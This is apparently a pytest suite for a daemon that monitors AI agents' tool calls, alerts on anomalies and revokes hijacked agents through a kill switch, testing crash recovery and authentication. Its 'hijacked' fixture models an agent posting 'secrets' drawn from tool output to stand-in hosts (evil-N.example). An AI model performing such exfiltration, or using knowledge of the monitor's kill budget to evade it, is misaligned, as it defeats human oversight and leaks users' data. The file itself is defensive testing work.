"""The whole daemon, as a process: killed at any moment, its store restarted, fed with rubbish."""

from __future__ import annotations

import json
import os
import random
import signal
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from killswitch import Guard, LeaseExpired, Refused, Revoked
from monitor.config import parse_config
from monitor.core.pipeline import Pipeline
from monitor.log import entries
from monitor.log.entries import Actions, Transition
from monitor.log.segments import SegmentedLog
from tests.monitor.daemons import FAST_CONFIG, RunningDaemon

AGENTS = [f"agent-{number}" for number in range(6)]
TOOLS = ["open_ticket", "read_customer", "search_docs", "reply"]
START_S = 1_795_000_000.0
WARM = 4200  # honest actions after which a single blatant one is beyond the kill budget


@pytest.fixture
def daemon(tmp_path: Path) -> Iterator[RunningDaemon]:
    with RunningDaemon(tmp_path / "state") as running:
        yield running


def habits(count: int, seed: int = 1, first: int = 0) -> list[dict[str, Any]]:
    """Six agents that do the same four things over and over, at their own pace, with a little noise."""
    rng = random.Random(f"{seed}-{first}")
    return [
        {
            "id": f"a-{number}",
            "ts": START_S + number * 2.0 + rng.random(),
            "agent_id": AGENTS[number % len(AGENTS)],
            "session_id": f"s-{number % len(AGENTS)}-{number // 240}",
            "tool": TOOLS[number // len(AGENTS) % len(TOOLS)],
            "args": {"customer": f"c-{int(rng.paretovariate(1.2))}", "note": "x" * rng.randint(10, 40)},
            "provenance": {"customer": "user"},
            "on_behalf_of": ["alice@example.com"],
        }
        for number in range(first, first + count)
    ]


def hijacked(number: int, agent: str = AGENTS[0]) -> dict[str, Any]:
    return {
        "id": f"bad-{number}",
        "ts": START_S + 10_000 + number,
        "agent_id": agent,
        "session_id": "s-hijacked",
        "tool": "http_post",
        "args": {"host": f"evil-{number}.example", "body": "secrets " * 4000},
        "provenance": {"host": "tool:read_document", "body": "tool:read_customer"},
        "on_behalf_of": ["alice@example.com"],
    }


def messages(daemon: RunningDaemon, since: int, until: int) -> list[dict[str, Any]]:
    """The feed's stored messages after `since` up to `until`, over a real websocket."""
    url = daemon.url.replace("http", "ws") + f"/v1/feed?since={since}"
    headers = {"Authorization": f"Bearer {daemon.tokens['analyst']}"}
    found: list[dict[str, Any]] = []
    with connect(url, additional_headers=headers, proxy=None) as socket:
        while not found or found[-1]["seq"] < until:
            message = json.loads(socket.recv(timeout=10))
            if message["type"] != "status":
                found.append(message)
    return found


def last_seq(daemon: RunningDaemon) -> int:
    """The feed's newest number, as its first status message says."""
    headers = {"Authorization": f"Bearer {daemon.tokens['analyst']}"}
    with connect(
        daemon.url.replace("http", "ws") + "/v1/feed", additional_headers=headers, proxy=None
    ) as socket:
        return int(json.loads(socket.recv(timeout=10))["seq"])


def test_a_hijacked_agent_is_alerted_and_refused_by_its_guard(daemon: RunningDaemon) -> None:
    with Guard.connect(daemon.redis_url, name="point-1") as guard:
        daemon.send(habits(WARM))
        guard.check(agent=AGENTS[0])
        daemon.send([hijacked(0)])
        daemon.wait_for(lambda: is_revoked(guard, AGENTS[0]), "the automatic kill")
        guard.check(agent=AGENTS[1])
    daemon.wait_for(lambda: daemon.get("/v1/alerts")["alerts"], "the alert, which comes after the kill")
    alert = daemon.get("/v1/alerts")["alerts"][0]["alert"]
    assert alert["agent_id"] == AGENTS[0]
    assert alert["response"]["taken"] == "suspend"
    assert alert["p"] <= alert["threshold_p"]
    assert all(reason["observed"] and reason["expected"] for reason in alert["reasons"])
    revocation = daemon.get("/v1/revocations")["revocations"][0]
    assert revocation["change_id"] == alert["response"]["change_id"]
    assert alert["id"] in revocation["evidence"]


def test_kill_9_in_the_middle_of_a_stream_loses_nothing_acknowledged(tmp_path: Path) -> None:
    rng = random.Random(7)
    stream = [*habits(WARM), hijacked(0), *habits(3000, first=WARM)]
    acknowledged = 0
    with RunningDaemon(tmp_path / "state") as daemon:
        position = 0
        while position < len(stream):
            killer = threading.Timer(
                rng.uniform(0.05, 0.6), lambda: daemon.process.send_signal(signal.SIGKILL)
            )
            killer.start()
            try:
                while position < len(stream):
                    batch = stream[position : position + 50]
                    receipt = daemon.send(batch)  # may have been durable before: then they are duplicates
                    assert receipt["accepted"] + receipt["duplicates"] == len(batch)
                    acknowledged += len(batch)
                    position += len(batch)
            except OSError:
                daemon.process.wait(10)
            killer.join()
            if daemon.process.poll() is not None or killer.finished.is_set():
                daemon.kill()
                daemon.start()
        daemon.wait_until_scored(len(stream))
        assert daemon.metric("killcord_actions_total") == acknowledged == len(stream)
        shown = messages(daemon, 0, last_seq(daemon))
        daemon.stop()
    assert_contiguous(shown)
    alerts = [message["alert"] for message in shown if message["type"] == "alert"]
    assert len({alert["id"] for alert in alerts}) == len(alerts), "an alert was shown twice"
    assert_same_as_uninterrupted(tmp_path / "state", alerts)
    kills = [m for m in shown if m["type"] == "transition" and m["transition"]["kind"] == "suspend"]
    assert len(kills) == 1


def assert_contiguous(shown: list[dict[str, Any]]) -> None:
    assert [message["seq"] for message in shown] == list(range(1, len(shown) + 1))


def assert_same_as_uninterrupted(state: Path, alerts: list[dict[str, Any]]) -> None:
    """One fresh pipeline over the whole log, without a single restart, must say the same, to the last bit."""
    pipeline = Pipeline(parse_config(FAST_CONFIG))
    expected: list[tuple[str, float | None]] = []
    log = SegmentedLog(state / "log")
    for frame in log.read():
        match entries.decode(frame.payload):
            case Actions(now_s, observations):
                outcomes = pipeline.step(observations, now_s, first_seq=frame.first_seq)
                expected += [(alert.id, alert.p) for alert in outcomes.alerts]
            case Transition(_, change):
                from killswitch.storage.codec import decode_change

                pipeline.transition(decode_change(change))
    log.close()
    assert [(alert["id"], alert["p"]) for alert in alerts] == expected


def test_revocations_stand_after_the_daemon_and_its_store_were_killed(daemon: RunningDaemon) -> None:
    status, answer = daemon.request("POST", "/v1/revocations", {"target": "agent:x", "reason": "test"})
    assert status == 200
    assert answer["durable"] is True
    store_pid = _store_pid(daemon)
    daemon.kill()
    os.kill(store_pid, signal.SIGKILL)
    daemon.start()
    assert [r["target"] for r in daemon.get("/v1/revocations")["revocations"]] == ["agent:x"]
    with Guard.connect(daemon.redis_url) as guard, pytest.raises(Revoked):
        guard.check(agent="x")


def test_a_daemon_killed_alone_adopts_its_store_and_points_never_lose_it(daemon: RunningDaemon) -> None:
    with Guard.connect(daemon.redis_url, name="point-1") as guard:
        store_pid = _store_pid(daemon)
        daemon.kill()
        guard.check(agent="x")
        daemon.start()
        assert _store_pid(daemon) == store_pid
        daemon.request("POST", "/v1/revocations", {"target": "agent:x", "reason": "test"})
        with pytest.raises(Revoked):
            guard.check(agent="x")


def test_the_store_dying_during_a_kill_neither_loses_nor_invents_it(daemon: RunningDaemon) -> None:
    with Guard.connect(daemon.redis_url, name="point-1", lease_s=2.0) as guard:
        answers: list[tuple[int, Any]] = []
        for number in range(5):
            body = {"target": f"agent:x-{number}", "reason": "test"}
            asking = threading.Thread(
                target=lambda body=body: answers.append(daemon.request("POST", "/v1/revocations", body))
            )
            asking.start()
            time.sleep(random.Random(number).uniform(0, 0.01))
            os.kill(_store_pid(daemon), signal.SIGKILL)
            asking.join()
            # Not by /readyz: it tells what the last look found, up to a second ago.
            daemon.wait_for(
                lambda: daemon.request("GET", "/v1/revocations")[0] == 200, "the store to be back"
            )
        daemon.wait_for(lambda: daemon.metric("killcord_kills_pending") == 0, "what was kept to be written")
        in_force = {r["target"] for r in daemon.get("/v1/revocations")["revocations"]}
        told = {
            content["target"] for status, content in answers if status in (200, 202) and content["durable"]
        }
        assert told <= in_force, "a kill that was confirmed as durable is gone"
        daemon.wait_for(lambda: _allows(guard, "innocent"), "the point to be connected again")
        for target in in_force:
            with pytest.raises(Revoked):
                guard.check(agent=target.removeprefix("agent:"))


def test_an_automatic_kill_waits_for_a_store_that_is_away(daemon: RunningDaemon) -> None:
    daemon.send(habits(WARM))
    daemon.wait_until_scored(WARM)
    store_pid = _store_pid(daemon)
    os.kill(store_pid, signal.SIGSTOP)
    try:
        daemon.send([hijacked(0)])
        daemon.wait_for(lambda: daemon.metric("killcord_kills_pending") == 1, "the pending kill")
    finally:
        os.kill(store_pid, signal.SIGCONT)
    daemon.wait_for(lambda: daemon.metric("killcord_kills_pending") == 0, "the kill to be written")
    assert [r["target"] for r in daemon.get("/v1/revocations")["revocations"]] == [f"agent:{AGENTS[0]}"]


def test_points_refuse_when_daemon_and_store_are_gone(daemon: RunningDaemon) -> None:
    with Guard.connect(daemon.redis_url, lease_s=0.5) as guard:
        guard.check(agent="x")
        daemon.stop()
        daemon.wait_for(lambda: not _allows(guard, "x"), "the lease to run out", timeout_s=5)
        with pytest.raises(LeaseExpired):
            guard.check(agent="x")


def test_a_thousand_malformed_actions_cost_only_themselves(daemon: RunningDaemon) -> None:
    rng = random.Random(3)
    good = [json.dumps(action).encode() for action in habits(500)]
    bad = [_broken(rng, rng.choice(good)) for _ in range(1000)]
    lines = [(line, True) for line in good] + [(line, False) for line in bad]
    rng.shuffle(lines)
    status, receipt = daemon.request(
        "POST", "/v1/actions", b"\n".join(line for line, _ in lines), role="sensor"
    )
    assert status == 200
    assert receipt["accepted"] == len(good)
    assert [rejection["index"] for rejection in receipt["rejected"]] == [
        index for index, (_, is_good) in enumerate(lines) if not is_good
    ]
    assert all(rejection["error"] for rejection in receipt["rejected"])
    daemon.wait_until_scored(len(good))
    letters = (daemon.state / "dead-letters.ndjson").read_bytes().splitlines()
    assert len(letters) == len(bad)


def _broken(rng: random.Random, line: bytes) -> bytes:
    """Break a good action in one of the ways in which real producers do. Never contains a newline."""
    action = json.loads(line)
    match rng.randrange(7):
        case 0:
            return line[: rng.randrange(1, len(line) - 1)]
        case 1:
            del action[rng.choice(["id", "ts", "agent_id", "tool"])]
        case 2:
            action[rng.choice(["id", "ts", "agent_id", "tool", "args", "session_id"])] = [[]]
        case 3:
            action["ts"] = rng.choice(["yesterday", "2026-03-02T00:30:49", -5, 1e300])
        case 4:
            action["v"] = 2
        case 5:
            action["agent_id"] = "x" * 513
        case _:
            position = rng.randrange(len(line))
            return b"\xff" + line[:position] + b"\x00" + line[position:]
    return json.dumps(action).encode()


@pytest.fixture(scope="module")
def shared_daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningDaemon]:
    with RunningDaemon(tmp_path_factory.mktemp("shared") / "state") as running:
        yield running


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 401),
        ({"Authorization": "Bearer wrong"}, 401),
        ({"Authorization": "SENSOR"}, 403),
        ({"Authorization": "ANALYST", "Origin": "https://evil.example"}, 403),
    ],
)
def test_the_feed_refuses_strangers(
    shared_daemon: RunningDaemon, headers: dict[str, str], status: int
) -> None:
    tokens = {role.upper(): f"Bearer {token}" for role, token in shared_daemon.tokens.items()}
    headers = {name: tokens.get(value, value) for name, value in headers.items()}
    origin = headers.pop("Origin", None)
    url = shared_daemon.url.replace("http", "ws") + "/v1/feed"
    with (
        pytest.raises(InvalidStatus) as refusal,
        connect(url, additional_headers=headers, origin=origin, proxy=None),
    ):
        pass
    assert refusal.value.response.status_code == status


def test_a_kill_without_a_reason_names_the_field(shared_daemon: RunningDaemon) -> None:
    status, answer = shared_daemon.request("POST", "/v1/revocations", {"target": "agent:x", "reason": ""})
    assert (status, answer["field"]) == (422, "reason")
    status, answer = shared_daemon.request("POST", "/v1/revocations", {"target": "pope:x", "reason": "why"})
    assert (status, answer["field"]) == (422, "target")
    assert "pope" in answer["error"]


def test_a_second_daemon_on_the_same_state_says_so(shared_daemon: RunningDaemon) -> None:
    second = RunningDaemon(shared_daemon.state)
    with pytest.raises(AssertionError, match="is in use by another daemon"):
        second.start()


def test_a_clean_stop_ends_with_status_0_and_stops_the_store(tmp_path: Path) -> None:
    daemon = RunningDaemon(tmp_path / "state")
    daemon.start()
    store_pid = _store_pid(daemon)
    assert daemon.stop() == 0
    assert not (daemon.state / "daemon.json").exists()
    with pytest.raises(ProcessLookupError):
        os.kill(store_pid, 0)


def _store_pid(daemon: RunningDaemon) -> int:
    import redis

    with redis.Redis.from_url(daemon.redis_url) as client:
        return int(client.info("server")["process_id"])


def _allows(guard: Guard, agent: str) -> bool:
    try:
        guard.check(agent=agent)
    except Refused:
        return False
    return True


def is_revoked(guard: Guard, agent: str) -> bool:
    try:
        guard.check(agent=agent)
    except Revoked:
        return True
    return False
